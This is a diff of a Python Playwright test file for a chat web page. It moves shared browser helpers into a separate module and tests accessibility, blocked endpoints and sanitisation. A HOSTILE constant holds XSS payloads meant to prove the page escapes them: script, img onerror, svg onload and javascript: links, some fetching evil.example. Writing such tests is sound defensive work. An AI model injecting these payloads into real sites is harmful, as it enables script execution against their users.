@@ -1,19 +1,14 @@
 import re
-import signal
-import subprocess
-import sys
 import urllib.error
 import urllib.request
-from contextlib import contextmanager
 
 import pytest
-from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import expect
+
+from tests.page_visits import DETAIL, NEED, answered, ask, change, served, violations
 
 pytestmark = pytest.mark.browser
 
-NEED = "A manager signs off each purchase request in a form, then it lands in SAP where fields are mapped."
-DETAIL = "How long may a process that Flow calls take before the step fails?"
 HOSTILE = """<img src="https://evil.example/a.png" onerror="window.hacked=1"> ![x](https://evil.example/b.png)
 <script>window.hacked=1;fetch('https://evil.example/c')</script><svg onload="window.hacked=1"></svg>
 [click](javascript:window.hacked=1) <iframe src="https://evil.example/d"></iframe> $$\\href{javascript:1}{x}$$
@@ -25,32 +20,6 @@ HOSTILE_GUIDE = f"# Ports {HOSTILE.splitlines()[0]}\n\nThe harbour <b>closes</b>
 HOSTILE_PACK = f"title: {HOSTILE.splitlines()[0]!r}\ngreeting: |\n  {HOSTILE.replace(chr(10), ' ')}\n"
 
 
-@contextmanager
-def served(environment, *arguments):
-    """The page, served by the command as a user starts it, and ended as a user ends it."""
-    command = [sys.executable, "-m", "ui", "serve", "--port", "0", *map(str, arguments)]
-    pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}
-    with subprocess.Popen(command, env=environment, **pipes) as serving:
-        told = ""
-        for line in serving.stdout:
-            told += line
-            if found := re.search(r"http://\S+", line):
-                yield found[0]
-                break
-        else:
-            pytest.fail(f"the server ended: {told}{serving.stderr.read()}")
-        serving.send_signal(signal.SIGINT)
-        _, errors = serving.communicate(timeout=30)
-    assert "Traceback" not in errors
-    assert serving.returncode in (0, 130)
-
-
-@pytest.fixture(scope="session")
-def address(ready):
-    with served(ready) as at:
-        yield at
-
-
 @pytest.fixture(scope="module")
 def hostile_address(ready, tmp_path_factory):
     """A page whose guide is as hostile as text can be."""
@@ -60,61 +29,6 @@ def hostile_address(ready, tmp_path_factory):
     (root / "pack.yaml").write_text(HOSTILE_PACK, encoding="utf-8")
     with served(ready, "--pack", root) as at:
         yield at
-
-
-@pytest.fixture
-def visit(browser, address):
-    """Opens the page as one more person. Whatever a test does, nothing may call out or fail in the page."""
-    opened, outside, failures = [], [], []
-
-    def go(width=1280, height=800, at=address, **options):
-        # What moves cannot be measured; and who asks for less motion gets the same page.
-        size = {"width": width, "height": height}
-        context = browser.new_context(viewport=size, reduced_motion="reduce", **options)
-        opened.append(context)
-        page = context.new_page()
-        page.set_default_timeout(20_000)
-        page.on("request", lambda r: None if r.url.startswith(at) else outside.append(r.url))
-        page.on("pageerror", lambda error: failures.append(str(error)))
-        page.on("console", lambda m: failures.append(m.text) if m.type == "error" else None)
-        page.on("dialog", lambda dialog: failures.append(dialog.message))
-        page.goto(at)
-        expect(page.get_by_role("textbox", name="Your message")).to_be_visible()
-        return page
-
-    yield go
-    for context in opened:
-        context.close()
-    assert not [url for url in outside if not url.startswith(("data:", "blob:"))]
-    assert not failures
-
-
-@pytest.fixture
-def page(visit):
-    return visit()
-
-
-@contextmanager
-def answered(page):
-    """Waits for one more answer than there was before."""
-    count = page.locator(".answer").count()
-    yield
-    expect(page.locator(".answer")).to_have_count(count + 1, timeout=20_000)
-
-
-def ask(page, message):
-    with answered(page):
-        page.get_by_role("textbox", name="Your message").fill(message)
-        page.keyboard.press("Enter")
-    return page.locator(".answer").last
-
-
-def change(page, label, value):
-    fact = page.locator("#facts .fact").filter(has_text=label).first
-    fact.locator(".change > summary").click()
-    with answered(page):
-        fact.get_by_role("button", name=value, exact=True).click()
-    return page.locator(".answer").last
 
 
 def test_the_empty_page_greets_and_an_example_is_answered(page):
@@ -292,11 +206,7 @@ def test_nothing_on_the_page_shuts_anybody_out(visit, scheme):
     # The checker itself is a script put into the page, which the page's own policy would refuse.
     page = visit(color_scheme=scheme, bypass_csp=True)
 
-    def violations():
-        found = Axe().run(page).response["violations"]
-        return [(v["id"], node["html"]) for v in found for node in v["nodes"]]
-
-    assert violations() == []
+    assert violations(page) == []
     ask(page, NEED)
     with answered(page):
         page.locator("#strip").get_by_role("button", name="Yes", exact=True).click()
@@ -306,13 +216,13 @@ def test_nothing_on_the_page_shuts_anybody_out(visit, scheme):
     page.locator("#facts .rest > summary").click()
     page.locator("#facts .rest .change > summary").last.click()
     page.locator(".answer .cite").last.click()
-    assert violations() == []
+    assert violations(page) == []
 
 
 @pytest.mark.parametrize(
     "path", ["/gradio_api/upload", "/gradio_api/info", "/gradio_api/call/sent", "/config", "/gradio_api/runs"]
 )
-def test_the_served_page_opens_no_other_door(address, path):
+def test_the_served_page_opens_no_other_door(page_at, path):
     for body in (None, b"{}"):
         with pytest.raises(urllib.error.HTTPError, match="404"):
-            urllib.request.urlopen(urllib.request.Request(address + path, data=body), timeout=20)
+            urllib.request.urlopen(urllib.request.Request(page_at + path, data=body), timeout=20)
